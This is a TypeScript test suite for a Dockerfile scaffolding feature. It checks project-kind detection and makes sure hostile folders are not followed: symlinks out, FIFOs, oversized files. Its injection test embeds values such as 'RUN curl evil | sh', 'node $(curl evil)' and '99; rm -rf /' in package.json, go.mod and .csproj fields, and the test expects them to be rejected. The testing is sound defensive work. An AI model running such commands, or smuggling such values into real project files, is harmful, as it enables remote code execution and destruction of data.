// Detection for "Add Dockerfile to Workspace" on sample folders the test writes: what each kind's
// files say, what is left to ask, and hostile folders (links out, FIFOs, oversized files, bad
// values in project files) that must be neither followed, nor block, nor reach the Dockerfile.
import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { detectProject, questionsFor, initialSpec, generate, DOCKERFILE, type Detection } from '../../client/src/companion/scaffold';

let root: string;

function folder(name: string, files: Record<string, string>): string {
  const dir = path.join(root, name);
  for (const [rel, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), text);
  }
  fs.mkdirSync(dir, { recursive: true });
  return dir;
}

const ids = (d: Detection, kind: Parameters<typeof questionsFor>[0]) => questionsFor(kind, d.facts[kind]).map((q) => q.id);

describe('scaffold: detection on sample folders', () => {
  before(() => {
    root = fs.mkdtempSync(path.join(os.tmpdir(), 'dw-scaffold-'));
  });
  after(() => fs.rmSync(root, { recursive: true, force: true }));

  it('Node: the start script, the lockfile and engines.node; only the port is asked', async () => {
    const d = await detectProject(
      folder('node', {
        'package.json': JSON.stringify({ name: 'shop', main: 'index.js', scripts: { start: 'node ./src/server.js' }, engines: { node: '>=22' } }),
        'package-lock.json': '{}',
        'src/server.js': '',
      }),
    );
    assert.deepEqual(d.candidates, ['node']);
    assert.equal(d.evidence.node, 'package.json');
    assert.deepEqual(d.facts.node, { lockfile: true, entry: 'src/server.js', nodeVersion: '22' });
    assert.deepEqual(ids(d, 'node'), ['scaffold.port']);
  });

  it('Node without a start script or main: a conventional file, else the entry is asked', async () => {
    assert.equal((await detectProject(folder('node2', { 'package.json': '{}', 'app.js': '' }))).facts.node?.entry, 'app.js');
    const none = await detectProject(folder('node3', { 'package.json': '{"scripts":{"start":"next start"}}' }));
    assert.equal(none.facts.node?.entry, undefined);
    assert.deepEqual(ids(none, 'node'), ['scaffold.entry', 'scaffold.port']);
  });

  it('Python: requirements.txt with app.py; pyproject.toml with main.py', async () => {
    const a = await detectProject(folder('py', { 'requirements.txt': 'flask\n', 'app.py': '' }));
    assert.deepEqual(a.candidates, ['python']);
    assert.deepEqual(a.facts.python, { pythonDeps: 'requirements', entry: 'app.py' });
    const b = await detectProject(folder('py2', { 'pyproject.toml': '[project]\nname="x"\n', 'main.py': '' }));
    assert.deepEqual(b.facts.python, { pythonDeps: 'pyproject', entry: 'main.py' });
  });

  it('Go: the version from go.mod, go.sum, a root package; several commands are a choice', async () => {
    const a = await detectProject(folder('go', { 'go.mod': 'module example.com/shop\n\ngo 1.23.4\n', 'go.sum': '', 'main.go': 'package main' }));
    assert.deepEqual(a.candidates, ['go']);
    assert.deepEqual(a.facts.go, { goSum: true, goVersion: '1.23', entry: '.' });
    const b = await detectProject(folder('go2', { 'go.mod': 'module m\ngo 1.22\n', 'cmd/api/main.go': '', 'cmd/worker/main.go': '', 'cmd/docs/README.md': '' }));
    assert.deepEqual(b.facts.go?.entryChoices, ['./cmd/api', './cmd/worker']);
    const q = questionsFor('go', b.facts.go).find((x) => x.id === 'scaffold.entry');
    assert.deepEqual(q?.choices?.map((c) => c.value), ['./cmd/api', './cmd/worker']);
  });

  it('ASP.NET Core: Sdk.Web with net8.0, nested under src/, the AssemblyName; only the Windows base is asked', async () => {
    const d = await detectProject(
      folder('core', {
        'src/Shop.Api/Shop.Api.csproj': '<Project Sdk="Microsoft.NET.Sdk.Web">\n<PropertyGroup>\n<TargetFramework>net8.0</TargetFramework>\n<AssemblyName>Shop.Service</AssemblyName>\n</PropertyGroup>\n</Project>\n',
      }),
    );
    assert.deepEqual(d.candidates, ['aspnet-core']);
    assert.deepEqual(d.facts['aspnet-core'], { project: 'src/Shop.Api/Shop.Api.csproj', assembly: 'Shop.Service', dotnetVersion: '8.0', targetFramework: 'net8.0' });
    assert.deepEqual(ids(d, 'aspnet-core'), ['scaffold.variant']);
  });

  it('.NET console: net10.0 is an image version; net6.0 is not, so the version is asked and says why', async () => {
    const a = await detectProject(folder('console', { 'Tool.csproj': '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><OutputType>Exe</OutputType><TargetFramework>net10.0</TargetFramework></PropertyGroup></Project>' }));
    assert.deepEqual(a.candidates, ['dotnet-console']);
    assert.equal(a.facts['dotnet-console']?.dotnetVersion, '10.0');
    assert.equal(a.facts['dotnet-console']?.assembly, 'Tool');
    const b = await detectProject(folder('console6', { 'Old.csproj': '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFrameworks>net6.0;net48</TargetFrameworks></PropertyGroup></Project>' }));
    const q = questionsFor('dotnet-console', b.facts['dotnet-console']);
    assert.deepEqual(q.map((x) => x.id), ['scaffold.dotnetVersion', 'scaffold.variant']);
    assert.match(q[0].prompt, /targets net6\.0/);
  });

  it('ASP.NET on .NET Framework: an old-style web project (v4.8 and web.config); a net48 library is no kind', async () => {
    const d = await detectProject(
      folder('fx', {
        'Shop.Web/Shop.Web.csproj': '<Project ToolsVersion="15.0"><PropertyGroup><TargetFrameworkVersion>v4.8</TargetFrameworkVersion><ProjectTypeGuids>{349c5851-65df-11da-9384-00065b846f21};{fae04ec0-301f-11d3-bf4b-00c04f79efbc}</ProjectTypeGuids></PropertyGroup></Project>',
        'Shop.Web/Web.config': '<configuration/>',
      }),
    );
    assert.deepEqual(d.candidates, ['aspnet-framework']);
    assert.equal(d.facts['aspnet-framework']?.project, 'Shop.Web/Shop.Web.csproj');
    assert.deepEqual(ids(d, 'aspnet-framework'), []);
    const lib = await detectProject(folder('fxlib', { 'Lib.csproj': '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>net48</TargetFramework></PropertyGroup></Project>' }));
    assert.deepEqual(lib.candidates, []);
  });

  it('static sites: index.html in public/ offers IIS and nginx; web.config alone offers IIS and nginx at the top', async () => {
    const a = await detectProject(folder('static', { 'public/index.html': '<h1>hi</h1>', 'README.md': '' }));
    assert.deepEqual(a.candidates, ['iis-static', 'nginx-static']);
    assert.equal(a.facts['iis-static']?.siteDir, 'public');
    assert.equal(a.evidence['nginx-static'], 'public/index.html');
    const b = await detectProject(folder('webconfig', { 'web.config': '<configuration/>' }));
    assert.equal(b.facts['iis-static']?.siteDir, '.');
  });

  it('PowerShell: one script is the entry, several are a choice; a script beside an app project is not a kind', async () => {
    assert.equal((await detectProject(folder('ps', { 'run.ps1': 'Write-Host hi' }))).facts.powershell?.entry, 'run.ps1');
    const two = await detectProject(folder('ps2', { 'a.ps1': '', 'b.ps1': '' }));
    assert.deepEqual(two.facts.powershell?.entryChoices, ['a.ps1', 'b.ps1']);
    const beside = await detectProject(folder('ps3', { 'build.ps1': '', 'package.json': '{"main":"a.js"}' }));
    assert.deepEqual(beside.candidates, ['node']);
  });

  it('several application kinds are all offered; an empty folder offers none', async () => {
    const d = await detectProject(folder('mixed', { 'package.json': '{}', 'requirements.txt': '', 'go.mod': 'module m\n' }));
    assert.deepEqual(d.candidates, ['node', 'python', 'go']);
    assert.deepEqual((await detectProject(folder('empty', {}))).candidates, []);
  });
});

describe('scaffold: detection on hostile folders', () => {
  before(() => {
    root = fs.mkdtempSync(path.join(os.tmpdir(), 'dw-scaffold-hostile-'));
  });
  after(() => fs.rmSync(root, { recursive: true, force: true }));

  it('a package.json that is a link (to a file outside) is not a file: not read, no Node project', async () => {
    const dir = folder('link', { 'app.py': '' });
    const secret = path.join(root, 'secret.json');
    fs.writeFileSync(secret, JSON.stringify({ main: 'leaked.js' }));
    fs.symlinkSync(secret, path.join(dir, 'package.json'));
    fs.symlinkSync('/etc', path.join(dir, 'src'));
    const d = await detectProject(dir);
    assert.deepEqual(d.candidates, []);
  });

  it('a linked folder is not entered (src -> a folder outside with a project in it)', async () => {
    const outside = folder('outside', { 'Evil/Evil.csproj': '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>' });
    const dir = folder('linkdir', {});
    fs.symlinkSync(outside, path.join(dir, 'src'));
    assert.deepEqual((await detectProject(dir)).candidates, []);
  });

  it('a FIFO named like a project file neither blocks nor counts', async function () {
    const dir = folder('fifo', {});
    const r = spawnSync('mkfifo', [path.join(dir, 'requirements.txt')]);
    if (r.status !== 0) throw new Error(`mkfifo failed: ${r.stderr}`);
    fs.writeFileSync(path.join(dir, 'app.py'), '');
    const d = await detectProject(dir);
    assert.deepEqual(d.candidates, []);
  });

  it('a go.mod over the size limit is not read (the version is then the default) and the note says so', async () => {
    const dir = folder('big', { 'go.mod': `module m\ngo 1.21\n${'// x\n'.repeat(400)}` });
    const d = await detectProject(dir, { maxFileBytes: 1024, maxEntries: 100 });
    assert.deepEqual(d.candidates, ['go']);
    assert.equal(d.facts.go?.goVersion, undefined);
    assert.ok(d.notes.some((n) => /go\.mod: \d+ bytes, over the 1024-byte limit, not read/.test(n)), d.notes.join('\n'));
  });

  it('a folder with more entries than the bound is looked at only up to it, and says so', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 30; i++) files[`f${i}.txt`] = '';
    const d = await detectProject(folder('many', files), { maxFileBytes: 1024, maxEntries: 10 });
    assert.ok(d.notes.some((n) => /only the first 10 entries/.test(n)));
  });

  it('values a project file supplies that could break out of the Dockerfile are not used: the question is asked instead', async () => {
    const d = await detectProject(
      folder('values', {
        'package.json': JSON.stringify({ main: 'a.js"]\nRUN curl evil | sh\n#', scripts: { start: 'node $(curl evil)' }, engines: { node: '99; rm -rf /' } }),
        'Bad.csproj': '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net8.0</TargetFramework><AssemblyName>a b&amp;c</AssemblyName></PropertyGroup></Project>',
        'go.mod': 'module m\ngo 1.21 && rm\n',
      }),
    );
    assert.equal(d.facts.node?.entry, undefined);
    assert.equal(d.facts.node?.nodeVersion, undefined);
    assert.equal(d.facts['aspnet-core']?.assembly, undefined);
    assert.deepEqual(ids(d, 'aspnet-core'), ['scaffold.assembly', 'scaffold.variant']);
    assert.equal(d.facts.go?.goVersion, undefined);
    // The input box refuses the same values a person might type.
    const entry = questionsFor('node', d.facts.node).find((q) => q.id === 'scaffold.entry');
    assert.ok(entry?.validate?.('a.js && rm -rf /'));
    assert.equal(entry?.validate?.('src/server.js'), undefined);
  });

  it('a package.json that is not JSON is noted and Node is still offered', async () => {
    const d = await detectProject(folder('badjson', { 'package.json': '{ nope', 'index.js': '' }));
    assert.deepEqual(d.candidates, ['node']);
    assert.equal(d.facts.node?.entry, 'index.js');
    assert.ok(d.notes.some((n) => /package\.json: not valid JSON/.test(n)));
  });
});

describe('scaffold: from detection to files', () => {
  before(() => {
    root = fs.mkdtempSync(path.join(os.tmpdir(), 'dw-scaffold-flow-'));
  });
  after(() => fs.rmSync(root, { recursive: true, force: true }));

  it('a detected Node project plus the asked port gives the Dockerfile with its entry', async () => {
    const d = await detectProject(folder('flow', { 'package.json': '{"main":"server.js"}', 'server.js': '' }));
    const spec = initialSpec('node', d.facts.node, 'flow');
    for (const q of questionsFor('node', d.facts.node)) q.apply(spec, q.id === 'scaffold.port' ? '3000' : '');
    const text = generate(spec).files.find((f) => f.name === DOCKERFILE)?.text ?? '';
    assert.match(text, /^COPY package\.json \.\/$/m);
    assert.match(text, /^RUN npm install --omit=dev$/m);
    assert.match(text, /^EXPOSE 3000$/m);
    assert.match(text, /^CMD \["node", "server\.js"\]$/m);
  });
});
